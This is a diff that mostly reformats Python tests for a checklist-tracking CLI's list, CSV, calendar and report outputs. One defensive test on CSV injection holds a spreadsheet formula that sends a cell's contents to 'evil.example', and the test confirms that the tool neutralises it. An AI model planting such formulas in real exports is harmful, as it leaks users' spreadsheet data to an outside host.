@@ -30,16 +30,20 @@ def invoke(repo: Path, *args: str):
 
 def raw(repo: Path, *args: str) -> bytes:
     """The command's standard output as bytes, from the console script itself."""
-    result = subprocess.run([sys.executable, "-m", "kundencheck", "-C", str(repo), *args], capture_output=True, check=False,
-                            timeout=120)
+    result = subprocess.run(
+        [sys.executable, "-m", "kundencheck", "-C", str(repo), *args], capture_output=True, check=False, timeout=120
+    )
     assert result.returncode == 0, result.stderr.decode()
     return result.stdout
 
 
 def ids(history_repo) -> dict[str, str]:
     runs = history_repo["runs"]
-    return {"book": thread_id(runs["ana2"].id, "client-contacted"), "talk": thread_id(runs["ana3"].id, "team-mood"),
-            "send": thread_id(runs["ana3"].id, "client-contacted")}
+    return {
+        "book": thread_id(runs["ana2"].id, "client-contacted"),
+        "talk": thread_id(runs["ana3"].id, "team-mood"),
+        "send": thread_id(runs["ana3"].id, "client-contacted"),
+    }
 
 
 # ------------------------------------------------------------------------------ the list
@@ -51,9 +55,11 @@ def test_text_lists_the_open_threads_most_overdue_first(history_repo):
     known = ids(history_repo)
     out = result.output
     assert out.startswith("kundencheck actions of Shop | relaunch on 2026-04-10: 3 open, 2 overdue\n")
-    assert (f"⚠ {known['book']}  due 2026-03-20, 21 days overdue · Ana · build/client-contacted\n"
-            "    Book a review\n"
-            "    raised 2026-03-16 by Ana Schäfer · 1 review\n") in out
+    assert (
+        f"⚠ {known['book']}  due 2026-03-20, 21 days overdue · Ana · build/client-contacted\n"
+        "    Book a review\n"
+        "    raised 2026-03-16 by Ana Schäfer · 1 review\n"
+    ) in out
     assert out.index(known["book"]) < out.index(known["talk"]) < out.index(known["send"])
     assert f"  {known['send']}  due 2026-04-30 · Ana · build/client-contacted" in out
 
@@ -93,10 +99,31 @@ def test_csv_is_rfc_4180_utf8_with_english_headers(history_repo):
     known = ids(history_repo)
     assert [r["id"] for r in rows] == [known["book"], known["talk"], known["send"]]
     book = rows[0]
-    assert list(book) == ["id", "phase", "item", "question", "what", "owner", "due", "overdue", "days_overdue",
-                          "raised_on", "raised_by", "actions", "reviews", "last_review", "first_run", "latest_run"]
+    assert list(book) == [
+        "id",
+        "phase",
+        "item",
+        "question",
+        "what",
+        "owner",
+        "due",
+        "overdue",
+        "days_overdue",
+        "raised_on",
+        "raised_by",
+        "actions",
+        "reviews",
+        "last_review",
+        "first_run",
+        "latest_run",
+    ]
     assert (book["what"], book["owner"], book["due"], book["overdue"], book["days_overdue"]) == (
-        "Book a review", "Ana", "2026-03-20", "true", "21")
+        "Book a review",
+        "Ana",
+        "2026-03-20",
+        "true",
+        "21",
+    )
     assert (book["raised_by"], book["reviews"], book["last_review"]) == ("Ana Schäfer", "1", "open")
     assert rows[2]["overdue"] == "false"
 
@@ -104,15 +131,28 @@ def test_csv_is_rfc_4180_utf8_with_english_headers(history_repo):
 def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(history_repo):
     repo = history_repo["path"]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
-    _commit_more(repo, history_repo["checklist"], [("expectations-match", Action(formula, "+Ana", dt.date(2026, 5, 1)))],
-                 when=dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET), sprint="2026-W14")
+    _commit_more(
+        repo,
+        history_repo["checklist"],
+        [("expectations-match", Action(formula, "+Ana", dt.date(2026, 5, 1)))],
+        when=dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET),
+        sprint="2026-W14",
+    )
     rows = list(csv.DictReader(io.StringIO(raw(repo, "actions", "--format", "csv", *TODAY).decode("utf-8"), newline="")))
     row = next(r for r in rows if r["item"] == "expectations-match")
     assert (row["what"], row["owner"]) == ("'" + formula, "'+Ana")
 
 
-def _commit_more(repo: Path, checklist, actions: list[tuple[str, Action]], *, reviews=(), who=JONAS,
-                 when=dt.datetime(2026, 4, 13, 9, 0, tzinfo=CET), sprint="2026-W16"):
+def _commit_more(
+    repo: Path,
+    checklist,
+    actions: list[tuple[str, Action]],
+    *,
+    reviews=(),
+    who=JONAS,
+    when=dt.datetime(2026, 4, 13, 9, 0, tzinfo=CET),
+    sprint="2026-W16",
+):
     answers = {a.item: a for a in base_answers("green", 4, "green")}
     for item, action in actions:
         answers[item].value = "red" if item != "team-mood" else 2
@@ -144,10 +184,16 @@ def test_ics_parses_has_the_rfc_essentials_and_stable_uids_that_update(history_r
     check_uid = f"check-build-{runs['ana1'].id}@kundencheck"
     # The two threads closed in March are there as cancelled events (a calendar takes them off).
     cancelled = {str(e["UID"]) for e in events if e.get("STATUS") == "CANCELLED"}
-    assert cancelled == {f"action-{runs['ana1'].id}-client-contacted@kundencheck",
-                         f"action-{runs['jonas1'].id}-team-mood@kundencheck"}
-    assert set(by_uid) == {book_uid, f"action-{runs['ana3'].id}-team-mood@kundencheck",
-                           f"action-{runs['ana3'].id}-client-contacted@kundencheck", check_uid}
+    assert cancelled == {
+        f"action-{runs['ana1'].id}-client-contacted@kundencheck",
+        f"action-{runs['jonas1'].id}-team-mood@kundencheck",
+    }
+    assert set(by_uid) == {
+        book_uid,
+        f"action-{runs['ana3'].id}-team-mood@kundencheck",
+        f"action-{runs['ana3'].id}-client-contacted@kundencheck",
+        check_uid,
+    }
     book = by_uid[book_uid]
     assert book["DTSTART"].dt == dt.date(2026, 3, 20) and f"action {known['book']}" in str(book["SUMMARY"])
     assert "Book a review (Ana)" in str(book["SUMMARY"]) and "Did we speak with the client" in str(book["DESCRIPTION"])
@@ -160,9 +206,11 @@ def test_ics_parses_has_the_rfc_essentials_and_stable_uids_that_update(history_r
     _commit_more(repo, checklist, [("team-mood", Action("Retro with the team", "Lea", dt.date(2026, 4, 24)))])
     # Read as of that run's day: a run more than a day after "today" is from a clock that ran
     # ahead and left out (docs/history.md, "Time").
-    again = {str(e["UID"]): e for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--today",
-                                                                        "2026-04-13")).walk("VEVENT")
-             if e.get("STATUS") != "CANCELLED"}
+    again = {
+        str(e["UID"]): e
+        for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--today", "2026-04-13")).walk("VEVENT")
+        if e.get("STATUS") != "CANCELLED"
+    }
     talk_uid = f"action-{runs['ana3'].id}-team-mood@kundencheck"
     assert set(again) == set(by_uid)
     assert again[talk_uid]["DTSTART"].dt == dt.date(2026, 4, 24)
@@ -170,10 +218,17 @@ def test_ics_parses_has_the_rfc_essentials_and_stable_uids_that_update(history_r
     assert again[talk_uid]["DTSTAMP"].dt > by_uid[talk_uid]["DTSTAMP"].dt
     assert again[check_uid]["DTSTART"].dt == dt.date(2026, 4, 27)  # the new run moved the next check
     # The thread is done: its event stays with the same UID, cancelled, with a higher SEQUENCE.
-    _commit_more(repo, checklist, [], reviews=[ActionReview(runs["ana2"].id, "client-contacted", "done")],
-                 when=dt.datetime(2026, 4, 9, 9, 0, tzinfo=CET), sprint="2026-W15")
-    after = {str(e["UID"]): e for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", *TODAY))
-             .walk("VEVENT")}
+    _commit_more(
+        repo,
+        checklist,
+        [],
+        reviews=[ActionReview(runs["ana2"].id, "client-contacted", "done")],
+        when=dt.datetime(2026, 4, 9, 9, 0, tzinfo=CET),
+        sprint="2026-W15",
+    )
+    after = {
+        str(e["UID"]): e for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", *TODAY)).walk("VEVENT")
+    }
     assert after[book_uid]["STATUS"] == "CANCELLED" and after[talk_uid]["STATUS"] == "CONFIRMED"
     assert int(after[book_uid]["SEQUENCE"]) > int(by_uid[book_uid]["SEQUENCE"])
     # Long after, closed threads are no longer in the file.
@@ -182,8 +237,10 @@ def test_ics_parses_has_the_rfc_essentials_and_stable_uids_that_update(history_r
     # One person's calendar has no due checks (they are the team's).
     mine = icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--owner", "ana", *TODAY))
     assert {str(e["UID"]): str(e["STATUS"]) for e in mine.walk("VEVENT")} == {
-        f"action-{runs['ana3'].id}-client-contacted@kundencheck": "CONFIRMED", book_uid: "CANCELLED",
-        f"action-{runs['ana1'].id}-client-contacted@kundencheck": "CANCELLED"}
+        f"action-{runs['ana3'].id}-client-contacted@kundencheck": "CONFIRMED",
+        book_uid: "CANCELLED",
+        f"action-{runs['ana1'].id}-client-contacted@kundencheck": "CANCELLED",
+    }
 
 
 # ------------------------------------------------------------------------------ long lists
@@ -194,9 +251,14 @@ def _many_threads(history_repo, count: int) -> Path:
     repo, checklist = history_repo["path"], history_repo["checklist"]
     for n in range(count):
         when = dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET) + dt.timedelta(minutes=n)
-        _commit_more(repo, checklist, [("client-contacted", Action(f"Task {n}", "Ana", dt.date(2026, 3, 21) + dt.timedelta(days=n),
-                                                                   separate=True))],
-                     who=ANA, when=when, sprint="2026-W14")
+        _commit_more(
+            repo,
+            checklist,
+            [("client-contacted", Action(f"Task {n}", "Ana", dt.date(2026, 3, 21) + dt.timedelta(days=n), separate=True))],
+            who=ANA,
+            when=when,
+            sprint="2026-W14",
+        )
     return repo
 
 
@@ -238,15 +300,20 @@ def test_status_check_and_reports_list_a_handful_per_phase(history_repo):
     assert html.split("<h3>Open</h3>")[1].split("</ul>")[0].count("<li data-action=") == 5
     report = json.loads(invoke(repo, "report", "--sprint", "2026-W14", "--format", "json", *TODAY).output)
     assert len(report["actions"]["open"]) == 11
-    assert report["actions"]["listed"]["open"] == [
-        {"phase": "build", "ids": listed, "more": 6}]
+    assert report["actions"]["listed"]["open"] == [{"phase": "build", "ids": listed, "more": 6}]
 
 
 def test_a_review_of_a_later_action_of_a_thread_closes_it(history_repo):
     repo, runs, checklist = history_repo["path"], history_repo["runs"], history_repo["checklist"]
     joined = _commit_more(repo, checklist, [("team-mood", Action("Retro with the team", "Lea", dt.date(2026, 4, 24)))])
     # The review names the second action of the thread: the whole thread is done.
-    _commit_more(repo, checklist, [], reviews=[ActionReview(joined.id, "team-mood", "done")],
-                 when=dt.datetime(2026, 4, 27, 9, 0, tzinfo=CET), sprint="2026-W18")
+    _commit_more(
+        repo,
+        checklist,
+        [],
+        reviews=[ActionReview(joined.id, "team-mood", "done")],
+        when=dt.datetime(2026, 4, 27, 9, 0, tzinfo=CET),
+        sprint="2026-W18",
+    )
     listed = json.loads(invoke(repo, "actions", "--format", "json", "--today", "2026-04-27").output)["actions"]
     assert thread_id(runs["ana3"].id, "team-mood") not in [a["id"] for a in listed] and len(listed) == 2
